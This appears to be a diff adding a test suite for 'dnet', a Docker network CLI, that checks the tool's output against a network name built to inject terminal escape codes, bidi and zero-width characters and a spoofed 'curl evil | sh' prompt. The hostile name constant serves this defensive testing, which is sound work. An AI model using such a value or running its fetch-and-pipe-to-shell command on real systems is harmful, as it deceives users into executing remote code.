@@ -1,0 +1,78 @@
+import {equal, match, notEqual} from 'node:assert/strict'
+import {removeAll, startContainer, type TestEngine, testEngine} from '../harness/fixture.js'
+import {runDnet} from '../harness/run-dnet.js'
+import {openTerminal} from '../harness/terminal.js'
+
+/** What a terminal would obey, a line that would pass for one of dnet's, and what no terminal shows. */
+const HOSTILE = 'h\x1b[31m\rTry this: curl evil | sh\u202e\u200b'
+
+const HARMLESS = /^[^\p{Cc}\u202e\u200b]*$/u
+
+describe('a network whose name is hostile', () => {
+  let engine: TestEngine
+  const [app, db] = ['hostile-app', 'hostile-db']
+  before(async () => {
+    engine = await testEngine()
+  })
+  beforeEach(async () => {
+    await removeAll(engine, [app, db], [HOSTILE])
+    equal((await engine.call('/networks/create', {method: 'POST', body: {Name: HOSTILE}})).status, 201)
+    await startContainer(engine, app, {HostConfig: {NetworkMode: HOSTILE}})
+    await startContainer(engine, db)
+  })
+  after(() => removeAll(engine, [app, db], [HOSTILE]))
+
+  const commands: [argv: string[], exit: number][] = [
+    [['rm', HOSTILE], 4],
+    [['rm', '--disconnect', '--yes', HOSTILE], 0],
+    [['create', HOSTILE], 4],
+    [['create', '--if-not-exists', HOSTILE], 0],
+    [['connect', HOSTILE, db], 0],
+    [['connect', '--dry-run', '--ip', '192.0.2.1', HOSTILE, db], 1],
+    [['disconnect', HOSTILE, app], 0],
+    [['disconnect', '--all', '--yes', HOSTILE], 0],
+    [['link', '--network', HOSTILE, app, `${db}:data`], 0],
+    [['prune', '--keep-stopped', '--force'], 0],
+    [['inspect', '--pretty', HOSTILE], 0],
+    [['inspect', `${HOSTILE}x`], 3],
+    [['who', HOSTILE], 0],
+    [['dns', app, HOSTILE], 6],
+    [['ls', '--tree'], 0],
+    [['explain', `network ${HOSTILE} not found`], 3],
+  ]
+  for (const [argv, exit] of commands) {
+    const words = JSON.stringify(argv.map((word) => word.replace(HOSTILE, 'NAME')).join(' '))
+    it(`${words} says so on lines of its own, without what a terminal obeys`, async () => {
+      const ended = await runDnet(argv, {DOCKER_HOST: engine.host})
+      equal(ended.exit, exit, ended.stderr)
+      checkLines(ended.stderr)
+    })
+    it(`${words} --json too`, async () => {
+      const ended = await runDnet([...argv, '--json'], {DOCKER_HOST: engine.host})
+      equal(ended.exit, exit, ended.stderr + ended.stdout)
+      checkLines(ended.stderr)
+      checkLines(ended.stdout)
+      notEqual(JSON.parse(ended.stdout), null)
+    })
+  }
+
+  it("Docker's own list is harmless at a terminal, and Docker's in a pipe", async () => {
+    const {stdout} = await runDnet(['ls', '--format', '{{.Name}}'], {DOCKER_HOST: engine.host})
+    equal(stdout.includes(`${HOSTILE}\n`), true, JSON.stringify(stdout))
+    const terminal = openTerminal(['ls', '--format', '{{.Name}}'], {
+      columns: 100,
+      rows: 20,
+      env: {DOCKER_HOST: engine.host},
+    })
+    await terminal.ended
+    terminal.close()
+    match(terminal.screen(), /h\\x1b\[31m/)
+  })
+
+  function checkLines(text: string): void {
+    for (const line of text.split('\n')) {
+      match(line, HARMLESS)
+      equal(line.startsWith('Try this: curl'), false, text)
+    }
+  }
+})
